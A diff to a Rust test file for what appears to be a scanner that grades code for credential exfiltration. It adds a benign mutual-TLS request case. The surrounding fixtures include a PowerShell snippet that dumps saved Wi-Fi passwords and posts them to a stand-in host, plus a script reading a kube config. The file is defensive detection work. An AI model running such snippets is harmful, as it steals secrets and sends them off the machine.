@@ -927,6 +927,9 @@ fn credential_stores_posted_to_unknown_hosts() {
     // Only fetching something (no body) from an unknown host while the config is read: a look.
     let get = "import os, urllib.request\ncfg = open(os.path.expanduser(\"~/.kube/config\")).read()\nurllib.request.urlopen(\"https://lens.example/prices.json\")\n";
     assert!(worst(&[("l.py", get)], "exfiltration.read-and-send") < Some(Critical));
+    // A client certificate presented to the service's own (unknown to us) endpoint: a look at most.
+    let mtls = "import requests\nr = requests.post(\"https://api.internal-billing.example/v1/usage\", json=usage, cert=(\"/etc/billing/client.pem\", \"/etc/billing/client-key.pem\"))\n";
+    assert!(worst(&[("m.py", mtls)], "exfiltration.read-and-send") < Some(Critical));
     let wifi = "$r = netsh wlan show profile name=\"$p\" key=clear\nInvoke-RestMethod -Uri \"https://wifi.example/up\" -Method Post -Body $r\n";
     assert_eq!(
         worst(&[("w.ps1", wifi)], "exfiltration.secret-to-network")
